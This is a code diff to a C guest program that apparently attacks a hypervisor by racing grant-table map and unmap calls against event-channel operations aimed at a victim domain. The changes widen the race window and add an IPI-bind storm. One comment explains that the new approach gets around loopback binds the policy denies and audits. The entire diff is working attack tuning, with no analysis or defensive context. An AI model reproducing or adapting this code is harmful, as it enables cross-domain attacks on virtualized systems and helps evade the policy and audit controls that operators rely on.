@@ -7,8 +7,9 @@
 
 #define RACE_PFN 0x170
 #define SOURCE_PFN 0x171
-#define ROUNDS 300
+#define ROUNDS 50
 #define EVTCHNOP_close 3
+#define EVTCHNOP_bind_ipi 7
 
 static volatile int finished[4], mapped_rounds, stores_faulted, copies_refused, iterations[4];
 static volatile int running;
@@ -30,7 +31,7 @@ static void mapper(void)
         if (op.status == 0) mapped_rounds++;
         /* Hold the mapping until the storer and the copier have both had a go at it. */
         int s1 = iterations[1], s2 = iterations[2];
-        for (int k = 0; k < 1000 && (iterations[1] == s1 || iterations[2] == s2); k++) yield();
+        for (int k = 0; k < 100000 && (iterations[1] == s1 || iterations[2] == s2); k++) yield();
         struct gnttab_unmap_grant_ref un = { .host_addr = RACE_PFN << 12, .handle = op.handle };
         hypercall(__HYPERVISOR_grant_table_op, GNTTABOP_unmap_grant_ref, (uint32_t)&un, 1, 0);
     }
@@ -60,15 +61,21 @@ static void copier(void)
 static void channels(void)
 {
     while (!finished[0]) {
-        struct evtchn_alloc_unbound a = { .dom = DOMID_SELF, .remote_dom = DOMID_SELF };
+        /* Loopback binds are denied by the policy (and audited), so: ports toward the victim
+         * and IPIs of our own, opened, signalled and closed while vCPU 2 sends on and closes
+         * the same numbers. */
+        struct evtchn_alloc_unbound a = { .dom = DOMID_SELF, .remote_dom = VICTIM };
         iterations[3]++;
-        if (hypercall(__HYPERVISOR_event_channel_op, EVTCHNOP_alloc_unbound, (uint32_t)&a, 0, 0) < 0) continue;
-        struct evtchn_bind_interdomain b = { .remote_dom = DOMID_SELF, .remote_port = a.port };
-        hypercall(__HYPERVISOR_event_channel_op, EVTCHNOP_bind_interdomain, (uint32_t)&b, 0, 0);
-        port_op(EVTCHNOP_send, b.local_port);
-        port_op(EVTCHNOP_close, a.port);
-        port_op(EVTCHNOP_send, b.local_port);
-        port_op(EVTCHNOP_close, b.local_port);
+        if (hypercall(__HYPERVISOR_event_channel_op, EVTCHNOP_alloc_unbound, (uint32_t)&a, 0, 0) == 0) {
+            port_op(EVTCHNOP_send, a.port);
+            port_op(EVTCHNOP_close, a.port);
+            port_op(EVTCHNOP_send, a.port);
+        }
+        struct { uint32_t vcpu, port; } ipi = { 3, 0 };
+        if (hypercall(__HYPERVISOR_event_channel_op, EVTCHNOP_bind_ipi, (uint32_t)&ipi, 0, 0) == 0) {
+            port_op(EVTCHNOP_send, ipi.port);
+            port_op(EVTCHNOP_close, ipi.port);
+        }
     }
 }
 
@@ -91,6 +98,10 @@ int main(void)
     my_ref = PUBLIC_REF_BASE + cmdline_int("self", 0) - 2;
     probes_init();
     events_init(0);
+    /* Upcalls stay masked: vCPU 3's IPI storm would re-enter the runtime's upcall handler in
+     * the window between its unmask and its return, nesting frames until the stack overflows
+     * (docs/abi.md, "Upcalls": the exit window). */
+    shared->vcpu_info[0].evtchn_upcall_mask = 1;
     int port = attacker_join();
     grant_table_init();
     volatile uint32_t *src = (volatile uint32_t *)(SOURCE_PFN << 12);
